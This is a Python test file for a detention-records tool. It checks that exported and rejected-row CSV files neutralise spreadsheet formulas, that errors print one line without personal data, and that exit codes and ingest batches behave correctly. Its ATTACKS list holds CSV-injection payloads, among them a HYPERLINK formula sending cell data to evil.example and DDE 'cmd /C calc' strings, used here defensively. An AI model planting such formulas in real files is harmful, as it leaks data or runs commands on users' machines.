"""What the project writes and says back, under attack, on SQLite and PostgreSQL: CSV files a
spreadsheet opens safely, one line for a known failure, nothing personal on a terminal or in a
log, exit codes that tell the truth, and no batch for an entry that was refused."""

from __future__ import annotations

import csv
import re
from datetime import UTC, datetime
from pathlib import Path

import sqlalchemy as sa
from _hostile import (
    SECRET_BIRTH,
    SECRET_NAME,
    SECRET_REF,
    assert_clean,
    log_events,
    messages,
)

from dtoa import csvout
from dtoa.models import IngestBatch
from dtoa.store import session_scope
from dtoa.testing import detention_row, make_referral, write_csv

ROOT = Path(__file__).resolve().parent.parent
ATTACKS = ('=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")


def person(custody_ref: str, **values: str) -> dict:
    return detention_row(**{"custody_ref": custody_ref, "person_ref": SECRET_REF,
                            "birth_date": SECRET_BIRTH, "person_name": SECRET_NAME, **values})


def cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


def test_a_text_cell_a_spreadsheet_would_run_is_neutralised_and_numbers_stay_numbers():
    for attack in ATTACKS:
        assert csvout.neutralised(attack) == "'" + attack
    assert [csvout.neutralised(v) for v in (-5, -2.5, "-5", "-12.5", "+3", "1e-3", "BAS/1")] \
        == [-5, -2.5, "-5", "-12.5", "+3", "1e-3", "BAS/1"]


def test_formulas_in_a_rejected_row_are_neutralised_in_the_rejects_file(dtoa, tmp_path):
    path = write_csv(tmp_path / "d.csv", [person("BAS/1", suite=attack) for attack in ATTACKS])
    dtoa("ingest", "detentions", path, ok=False)
    rows = cells(tmp_path / "d.rejects.csv")[1:]
    assert [r[2] for r in rows] == ["'" + attack for attack in ATTACKS]  # value
    assert not any(r[4].startswith(csvout.FORMULA_START) for r in rows)  # the raw row
    assert [r[0] for r in rows] == ["2", "3", "4", "5", "6", "7"]  # line numbers stay numbers


def test_formulas_in_stored_records_are_neutralised_in_both_exports(dtoa, tmp_path, engine):
    dtoa("ingest", "detentions", write_csv(tmp_path / "d.csv", [
        person(attack) for attack in ATTACKS]))
    dtoa("export", "detentions", tmp_path / "detentions.csv")
    exported = {r[1] for r in cells(tmp_path / "detentions.csv")[1:]}
    assert exported == {"'" + attack.strip() for attack in ATTACKS}  # refs are stripped
    with session_scope(engine) as session:
        make_referral(session, reference="BAS-2022-000001", custody_ref="@SUM(9)",
                      appointment_at=datetime(2022, 10, 6, 9, 0, tzinfo=UTC))
    dtoa("export", "referrals", tmp_path / "referrals.csv")
    (row,) = cells(tmp_path / "referrals.csv")[1:]
    assert row[:3] == ["BAS-2022-000001", "BASINGSTOKE", "'@SUM(9)"]


def test_every_csv_the_project_writes_goes_through_the_one_safe_writer():
    # Inputs the project makes for itself (synthetic extracts, the demo's provider files, test
    # fixtures) and the raw text of a row are not files staff open.
    allowed = {"dtoa/csvout.py", "dtoa/ingest/csvfile.py", "dtoa/synthetic.py",
               "dtoa/demo.py", "dtoa/testing.py"}
    writers = re.compile(r"csv\.(writer|DictWriter)\(")
    found = {str(p.relative_to(ROOT)) for folder in ("dtoa", "pipelines")
             for p in (ROOT / folder).rglob("*.py") if writers.search(p.read_text())}
    assert found <= allowed, found - allowed


def test_exporting_into_a_missing_folder_says_so_in_one_line(dtoa, tmp_path):
    target = tmp_path / "no" / "such" / "folder" / "d.csv"
    for what in ("detentions", "referrals"):
        result = dtoa("export", what, target, ok=False)
        assert result.exit_code == 1
        assert messages(result.stderr) == [
            f"Error: cannot write {target}: No such file or directory"]
        assert_clean(result.stdout, result.stderr)


def _refuse_the_secret_person(engine) -> None:  # noqa: ANN001
    """Make the database itself refuse a row, with the row's values in its message, as a
    failing constraint does (PostgreSQL: 'Failing row contains (...)')."""
    with engine.begin() as connection:
        if connection.dialect.name == "postgresql":
            connection.execute(sa.text(
                f"ALTER TABLE detention ADD CONSTRAINT hostile CHECK "
                f"(person_name <> '{SECRET_NAME}')"))
        else:
            connection.execute(sa.text(
                f"CREATE TRIGGER hostile BEFORE INSERT ON detention "
                f"WHEN NEW.person_name = '{SECRET_NAME}' BEGIN SELECT RAISE(ABORT, "
                f"'refused {SECRET_NAME} {SECRET_REF} {SECRET_BIRTH}'); END"))


def test_an_unexpected_database_error_prints_one_line_and_logs_no_personal_data(
        dtoa, tmp_path, engine):
    _refuse_the_secret_person(engine)
    result = dtoa("--verbose", "ingest", "detentions",
                  write_csv(tmp_path / "d.csv", [person("BAS/1")]), ok=False)
    assert result.exit_code == 5
    (line,) = messages(result.stderr)
    assert re.fullmatch(r"Error: unexpected error \(\w+\); the details are in the log "
                        r"\(.+\)", line), line
    assert_clean(result.stdout, result.stderr)
    (failed,) = [e for e in log_events(result.stderr) if e["event"] == "command.failed"]
    assert failed["error_types"] and failed["sqlstate"] in (None, "23514")
    assert any("dtoa/ingest/" in frame for frame in failed["frames"])
    with engine.connect() as connection:  # and the batch is whole or nothing
        assert connection.execute(sa.select(sa.func.count()).select_from(
            IngestBatch)).scalar_one() == 0


def test_re_running_a_file_that_had_rejects_exits_as_its_first_run_did(dtoa, tmp_path):
    path = write_csv(tmp_path / "d.csv", [person("BAS/1"), person("BAS/2", birth_date="x")])
    first = dtoa("ingest", "detentions", path, ok=False)
    again = dtoa("ingest", "detentions", path, ok=False)
    assert (first.exit_code, again.exit_code) == (1, 1)
    assert again.stdout == "d.csv: already taken in (batch 1); nothing changed\n"
    assert messages(again.stderr) == [
        "  1 of its 2 rows were rejected then (kept in the database with batch 1, and in its "
        "rejects file)"]


def test_a_refused_desk_entry_makes_no_batch_and_uses_no_batch_number(dtoa, tmp_path, engine):
    desk = ("record-test", "--suite", "BASINGSTOKE", "--outcome", "tested", "--result",
            "cocaine=positive", "--result", "opiates=negative", "--tested-at",
            "2022-10-03T15:05:00")
    refused = dtoa("--verbose", *desk, "--custody-ref", "BAS/NOPE", "--officer", "PC 1",
                   ok=False)
    assert refused.exit_code == 1
    assert messages(refused.stderr) == [
        "not recorded: custody_ref: no detention BASINGSTOKE/BAS/NOPE: take in the detentions "
        "extract first"]
    assert "batch.committed" not in [e["event"] for e in log_events(refused.stderr)]
    bad_bytes = dtoa(*desk, "--custody-ref", "BAS/1", "--officer", "PC \udce9", ok=False)
    assert messages(bad_bytes.stderr) == [
        "not recorded: officer_ref: byte 0xE9 is not UTF-8: save the file as UTF-8"]
    with engine.connect() as connection:
        assert connection.execute(sa.select(sa.func.count()).select_from(
            IngestBatch)).scalar_one() == 0
    taken = dtoa("ingest", "detentions", write_csv(tmp_path / "d.csv", [person("BAS/1")]))
    assert taken.stdout.startswith("d.csv: batch 1: ")  # no number was used up
